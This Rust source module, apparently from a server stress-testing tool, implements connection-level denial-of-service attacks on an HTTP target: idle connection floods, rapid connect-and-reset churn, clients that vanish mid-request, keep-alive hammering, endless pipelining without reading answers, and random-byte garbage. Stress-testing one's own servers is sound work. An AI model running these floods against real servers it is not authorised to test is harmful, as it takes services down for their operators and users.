//! Attacks that need nothing but connections: many, or opened and closed without end.

use std::io;
use std::time::Duration;

use futures_util::future::LocalBoxFuture;

use super::{Attack, End, Line, Target};

/// Connection flood: many connections that say nothing, to use up descriptors and memory.
#[derive(Debug)]
pub struct IdleConnections;

impl Attack for IdleConnections {
    fn name(&self) -> &'static str {
        "idle connections"
    }

    fn run<'a>(&'a self, mut line: Line<'a>, _: &'a Target) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            line.seen.count(1);
            line.read_until_end().await
        })
    }
}

/// Connection churn: connections opened and reset at once, as fast as they go, to keep the listener busy.
#[derive(Debug)]
pub struct Churn;

impl Attack for Churn {
    fn name(&self) -> &'static str {
        "connection churn"
    }

    fn run<'a>(&'a self, line: Line<'a>, _: &'a Target) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            line.seen.count(1);
            reset(line)
        })
    }
}

/// Vanishing clients: each asks for something big and resets the connection before it comes.
#[derive(Debug)]
pub struct Vanish {
    /// What is asked for.
    pub path: &'static str,
}

impl Attack for Vanish {
    fn name(&self) -> &'static str {
        "vanishing clients"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let head = format!(
                "GET {} HTTP/1.1\r\nHost: {}\r\n\r\n",
                self.path, target.host
            );
            line.send(head.as_bytes()).await?;
            line.seen.count(1);
            line.stream.readable().await?;
            reset(line)
        })
    }
}

/// Keep-alive hammering: one small request after the other on each connection, as fast as the answers come.
#[derive(Debug)]
pub struct Hammer {
    /// Requests a connection makes at most.
    pub requests: u64,
}

impl Attack for Hammer {
    fn name(&self) -> &'static str {
        "keep-alive hammering"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let head = format!("GET /hammer HTTP/1.1\r\nHost: {}\r\n\r\n", target.host);
            for _ in 0..self.requests {
                line.send(head.as_bytes()).await?;
                line.read_answers(1).await?;
                line.seen.count(1);
            }
            Ok(End::Spent)
        })
    }
}

/// Pipelining flood: requests without end, and no answer is ever read.
#[derive(Debug)]
pub struct PipelineFlood {
    /// What is asked for each time.
    pub path: &'static str,
}

impl Attack for PipelineFlood {
    fn name(&self) -> &'static str {
        "pipelining flood"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            const AT_ONCE: u32 = 64;
            let head = format!(
                "GET {} HTTP/1.1\r\nHost: {}\r\n\r\n",
                self.path, target.host
            );
            let heads = head.repeat(AT_ONCE as usize);
            loop {
                line.send(heads.as_bytes()).await?;
                line.seen.count(AT_ONCE.into());
            }
        })
    }
}

/// Garbage: random bytes where a request is expected.
#[derive(Debug)]
pub struct Garbage {
    /// Of the random bytes.
    pub seed: u64,
    /// How many bytes each connection sends.
    pub bytes: usize,
}

impl Attack for Garbage {
    fn name(&self) -> &'static str {
        "garbage"
    }

    fn run<'a>(&'a self, mut line: Line<'a>, _: &'a Target) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            // Each connection says something else, and the same in every run.
            let mut random = fastrand::Rng::with_seed(self.seed ^ line.seen.opened());
            let bytes: Vec<u8> = std::iter::repeat_with(|| random.u8(..))
                .take(self.bytes)
                .collect();
            line.seen.count(1);
            line.send_reading(&bytes).await?;
            line.read_until_end().await
        })
    }
}

/// Closes with a reset instead of a goodbye.
fn reset(line: Line<'_>) -> io::Result<End> {
    let socket = socket2::SockRef::from(&line.stream);
    socket.set_linger(Some(Duration::ZERO))?;
    Ok(End::Spent)
}
